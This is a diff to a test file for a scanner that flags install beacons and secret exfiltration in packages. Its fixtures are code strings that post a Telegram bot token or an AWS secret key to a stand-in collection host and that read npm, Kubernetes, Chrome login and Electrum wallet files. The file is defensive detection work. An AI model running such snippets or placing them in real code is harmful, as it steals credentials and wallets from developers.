@@ -1,5 +1,6 @@
-"""Install beacons written the way real packages write them: identity read through `whoami`/`hostname` commands,
-identity sent to a bare public IP address (high), the same sent to a loopback or private address (not raised)."""
+"""Beacons and exfiltration written the way real packages write them: identity read through `whoami`/`hostname`
+commands, identity sent to a bare public IP address (high; to a loopback or private address not raised), a bot
+token used by the API it belongs to (low) or sent elsewhere (high)."""
 from __future__ import annotations
 
 from test_fact_severity import _by_line
@@ -41,3 +42,25 @@ def test_login_name_read_through_whoami_is_the_login_name():
           "const rev = execSync('git rev-parse HEAD').toString();\n"
           "fetch(`https://b.example.net/${rev}`);\n")
     assert _by_line(RULE, "m.js", js) == {3: "high"}
+
+
+def test_telegram_bot_token_in_its_own_bot_api_url_is_low_sent_elsewhere_high():
+    py = ("import os, requests\n"
+          "t = os.environ['TELEGRAM_BOT_TOKEN']\n"
+          "requests.post(f'https://api.telegram.org/bot{t}/sendMessage', json={'text': 'done'})\n"
+          "requests.post('https://collect.example.net/t', data={'t': t})\n"
+          "requests.post(f'https://api.telegram.org/bot{t}/sendMessage', json={'text': os.environ['AWS_SECRET_ACCESS_KEY']})\n")
+    assert _by_line("secret-env-var-sent-over-network", "m.py", py) == {3: "low", 4: "high", 5: "high"}
+    js = ("const t = process.env.TELEGRAM_BOT_TOKEN;\n"
+          "fetch(`https://api.telegram.org/bot${t}/sendMessage`, { method: 'POST', body: '{}' });\n"
+          "fetch('https://collect.example.net/t', { method: 'POST', body: JSON.stringify({ t }) });\n")
+    assert _by_line("js-secret-env-var-sent-over-network", "m.js", js) == {2: "low", 3: "high"}
+
+
+def test_js_read_of_a_developer_tools_credentials_is_medium_of_a_browser_or_wallet_store_high():
+    js = ("const fs = require('fs'); const os = require('os'); const path = require('path');\n"
+          "const rc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');\n"
+          "const ld = fs.readFileSync(path.join(process.env.LOCALAPPDATA, 'Google', 'Chrome', 'User Data', 'Login Data'));\n"
+          "const w = fs.readdirSync(path.join(os.homedir(), '.electrum', 'wallets'));\n"
+          "const k = fs.readFileSync(`${os.homedir()}/.kube/config`);\n")
+    assert _by_line("js-credential-file-read", "m.js", js) == {2: "medium", 3: "high", 4: "high", 5: "medium"}
